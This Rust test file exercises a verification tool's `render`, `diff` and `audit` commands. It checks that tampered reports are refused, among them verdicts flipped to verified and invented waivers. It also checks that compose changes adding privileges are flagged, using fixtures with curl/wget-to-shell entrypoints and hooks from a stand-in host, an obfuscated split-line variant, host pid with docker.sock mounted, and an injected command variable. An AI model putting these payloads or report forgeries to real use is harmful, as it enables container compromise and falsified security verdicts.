//! Saved reports, and whose power grew.

use super::givers::out_of_date;
use super::{RULES, Variant};
use crate::program::{AS_OF, Folder, Ran, machine};
use serde_json::Value;

/// A report of a refused machine, edited; `render` refuses it.
#[track_caller]
fn edited(change: impl FnOnce(&mut Value)) {
    let folder = Folder::of(&machine().universe(out_of_date));
    folder.verify("evidence.json", &["--format", "json", "-o", "report.json"]).ends(11);
    let mut report: Value = serde_json::from_str(&folder.read("report.json")).unwrap();
    change(&mut report);
    folder.write("report.json", report.to_string());
    let ran = folder.run(&["render", "report.json"]).ends(3);
    assert!(ran.out.is_empty() && ran.err.contains("report.json"), "{} {}", ran.out, ran.err);
}

fn verified(report: &mut Value) {
    report["verdict"]["outcome"] = "verified".into();
    report["verdict"]["exit_code"] = 0.into();
    report["verdict"]["reasons"] = Value::Array(Vec::new());
}

fn failing(report: &mut Value) -> impl Iterator<Item = &mut Value> {
    report["checks"].as_array_mut().unwrap().iter_mut().filter(|check| check["outcome"] == "fail")
}

/// `render` of a command's report says what the command said.
#[track_caller]
fn rendered(arguments: &[&str]) {
    let folder = Folder::new();
    let json = folder.run(&[arguments, &["--format", "json"]].concat());
    folder.write("report.json", &json.out);
    let said = folder.run(arguments);
    let Ran { code, out, err } = folder.run(&["render", "report.json"]);
    assert_eq!((code, out), (said.code, said.out), "{arguments:?}: {err}");
}

pub(super) const REPORTS: &[Variant] = &[
    ("red/render-edited-report", "every check passes and the facts stay", || {
        edited(|report| {
            verified(report);
            for check in failing(report) {
                check["outcome"] = "pass".into();
                check["reason"] = Value::Null;
            }
        });
    }),
    ("red/render-edited-report", "a failed check is not checked and not required", || {
        edited(|report| {
            verified(report);
            for check in failing(report) {
                check["outcome"] = "not-checked".into();
                check["required"] = false.into();
            }
        });
    }),
    ("red/render-edited-report", "the failed checks are renamed to others", || {
        edited(|report| {
            verified(report);
            for check in failing(report) {
                check["id"] = "quote.format".into();
                check["outcome"] = "pass".into();
                check["reason"] = Value::Null;
            }
        });
    }),
    ("red/render-edited-report", "no checks at all", || {
        edited(|report| {
            verified(report);
            report["checks"] = Value::Array(Vec::new());
        });
    }),
    ("red/render-edited-report", "a graver verdict as a lighter one", || {
        edited(|report| {
            report["verdict"]["outcome"] = "incomplete".into();
            report["verdict"]["exit_code"] = 13.into();
        });
    }),
    ("red/render-edited-report", "an exception that the policy does not have", || {
        edited(|report| {
            verified(report);
            for check in failing(report) {
                check["waived"] = "the vendor has promised an update".into();
            }
        });
    }),
    ("red/render-refuses-quote-report", "of a quote that is refused", || {
        rendered(&[
            "quote",
            "verify",
            "quote.bin",
            "--collateral",
            "collateral.json",
            "--offline",
            "--as-of",
            AS_OF,
        ]);
    }),
    ("red/render-refuses-quote-report", "of a quote without collateral", || {
        rendered(&[&["quote", "verify", "quote.bin", "--store", "none"][..], &RULES].concat());
    }),
    ("red/render-refuses-quote-report", "of documents", || rendered(&["audit", "app-compose.json"])),
    ("red/render-refuses-quote-report", "of a machine", || {
        rendered(&[&["verify", "evidence.json"][..], &RULES].concat());
    }),
];

/// What is added to one service, or to the document, and that `diff` and `audit` both see it.
#[track_caller]
fn grew(service: &str, members: &[(&str, Value)]) {
    let document = |service: &str, members: &[(&str, Value)]| {
        let compose = format!(
            "services:\n  app:\n    image: docker.io/library/nginx@sha256:{}\n{service}",
            "0".repeat(64)
        );
        let mut document = serde_json::json!({
            "manifest_version": 2, "name": "x", "runner": "docker-compose", "docker_compose_file": compose,
            "kms_enabled": true, "gateway_enabled": false, "public_logs": false, "public_sysinfo": false,
            "public_tcbinfo": true, "key_provider_id": "", "allowed_envs": [], "no_instance_id": false,
            "secure_time": true,
        });
        for (name, value) in members {
            document[*name] = value.clone();
        }
        document.to_string()
    };
    let folder = Folder::empty();
    folder.write("before.json", document("", &[]));
    folder.write("after.json", document(service, members));
    let ran = folder.run(&["diff", "before.json", "after.json"]).ends(12);
    assert!(ran.out.contains("POWER GREW"), "{}", ran.out);
    let back = folder.run(&["diff", "after.json", "before.json"]).ends(0);
    assert!(!back.out.contains("POWER GREW"), "{}", back.out);
}

pub(super) const DIFF: &[Variant] = &[
    ("red/diff-says-nobody-grew", "an entrypoint that runs what it is sent", || {
        grew("    entrypoint: [\"sh\", \"-c\", \"wget -qO- http://x.example | sh\"]\n", &[]);
    }),
    ("red/diff-says-nobody-grew", "a hook before the stop", || {
        grew("    pre_stop:\n      - command: sh -c 'curl -s http://x.example | sh'\n", &[]);
    }),
    ("red/diff-says-nobody-grew", "a script that runs what it is sent, split over lines", || {
        grew("", &[("pre_launch_script", "A='curl -s http://x.example'\n$A |\n  sh\n".into())]);
    }),
    ("red/diff-says-nobody-grew", "the host's namespaces and the socket", || {
        grew("    pid: host\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n", &[]);
    }),
    ("red/diff-says-nobody-grew", "a value from outside", || {
        grew(
            "    command: [\"sh\", \"-c\", \"$X\"]\n    environment:\n      X: \"${X}\"\n",
            &[("allowed_envs", serde_json::json!(["X"]))],
        );
    }),
];
